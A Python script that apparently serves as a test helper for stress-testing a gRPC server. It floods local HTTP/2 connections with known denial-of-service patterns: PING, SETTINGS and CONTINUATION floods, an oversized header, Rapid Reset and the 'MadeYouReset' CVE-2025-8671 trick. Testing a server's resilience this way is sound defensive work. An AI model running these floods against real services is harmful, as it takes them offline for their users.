"""Connections that send frames as fast as they can, and read no answer.

  flooding.py TARGET CONNECTIONS SECONDS KIND [JOB]

TARGET: a port, `tls:PORT`, or the path of a socket file. Begins anew whenever the server has ended a
connection. Prints how many batches it sent, and on how many connections. A program of its own: a
test that forks beside gRPC's threads may hang.
"""

import contextlib
import itertools
import struct
import subprocess
import sys
import threading
import time

import http2

INFO = "/contact.v1.JobService/GetServerInfo"
WATCH = "/contact.v1.JobService/WatchJob"


def always(batch):
    return lambda number: batch


def after(start, batch):
    """A batch again and again, once something has begun."""
    return lambda number: batch if number else start


def calls(method, content, end):
    """Calls, a hundred at a time, each followed by what `end(stream)` says."""
    def frames(number):
        first = 200 * number + 1
        return b"".join(http2.headers(stream, method) + http2.message(stream, content) + end(stream)
                        for stream in range(first, first + 200, 2))
    return frames


def reset(stream):
    return http2.frame(http2.RST_STREAM, 0, stream, struct.pack(">I", 8))


def mistake(stream):
    """A frame for which the server has to reset the stream itself (CVE-2025-8671)."""
    return http2.frame(http2.WINDOW_UPDATE, 0, stream, struct.pack(">I", 0))


def watch_of(job):
    from contact.v1 import job_service_pb2  # The other kinds need no messages.
    return job_service_pb2.WatchJobRequest(name=job).SerializeToString()


BEGIN = http2.frame(http2.HEADERS, 0, 1, http2.header(b":method", b"POST"))
LONG_HEADER = http2.frame(http2.CONTINUATION, 0, 1, http2.header(b"n", b"x" * 1000) * 16) * 4
# A header that says it is 800 MB long.
ENDLESS = http2.frame(http2.HEADERS, 0, 1, http2.header(b":method", b"POST") +
                      b"\x00\x01n\x7f\x81\xfc\xbb\xfd\x02")
SETTING = http2.frame(http2.SETTINGS, 0, 0, struct.pack(">HI", http2.INITIAL_WINDOW_SIZE, 65535))

# What a kind sends: bytes of a batch by the number of the batch in its connection.
KINDS = {
    "PING": lambda job: always(http2.frame(http2.PING, 0, 0, bytes(8)) * 500),
    "SETTINGS": lambda job: always(SETTING * 500),
    "WINDOW_UPDATE": lambda job: always(
        http2.frame(http2.WINDOW_UPDATE, 0, 0, struct.pack(">I", 1)) * 1000),
    "PRIORITY": lambda job: always(
        http2.frame(http2.PRIORITY, 0, 1, struct.pack(">IB", 0, 16)) * 1000),
    "CONTINUATION": lambda job: after(BEGIN, LONG_HEADER),
    "empty CONTINUATION": lambda job: after(BEGIN, http2.frame(http2.CONTINUATION, 0, 1) * 1000),
    "endless header": lambda job: after(
        ENDLESS, http2.frame(http2.CONTINUATION, 0, 1, b"x" * 16000) * 4),
    "empty DATA": lambda job: after(http2.headers(1, INFO), http2.frame(http2.DATA, 0, 1) * 1000),
    "RST_STREAM": lambda job: calls(INFO, b"", reset),
    "RST_STREAM of watches": lambda job: calls(WATCH, watch_of(job), reset),
    "made you reset": lambda job: calls(INFO, b"", mistake),
    "unread calls": lambda job: calls(INFO, b"", lambda stream: b""),
}


def connect(target):
    if target.startswith("/"):
        return http2.greet(0, file=target)
    scheme, _, port = target.rpartition(":")
    return http2.greet(int(port), tls=scheme == "tls")


def flood(target, seconds, frames, sums):
    """Adds the numbers of batches and of connections to the sums."""
    until = time.monotonic() + seconds
    while time.monotonic() < until:
        with contextlib.suppress(OSError), connect(target) as connection:
            sums[1] += 1
            connection.settimeout(0.2)
            for number in itertools.count():
                connection.sendall(frames(number))
                sums[0] += 1
                if time.monotonic() > until:
                    break


def start(target, connections, seconds, kind, job=""):
    """The program as a process; what it prints is in its stdout."""
    return subprocess.Popen(
        [sys.executable, "-B", __file__, str(target), str(connections), str(seconds), kind, job],
        stdout=subprocess.PIPE, text=True)


if __name__ == "__main__":
    target, connections, seconds, kind, *job = sys.argv[1:]
    sums = [0, 0]
    threads = [threading.Thread(target=flood, args=(target, float(seconds),
                                                    KINDS[kind]("".join(job)), sums))
               for _ in range(int(connections))]
    for thread in threads:
        thread.start()
    for thread in threads:
        thread.join()
    print(*sums)
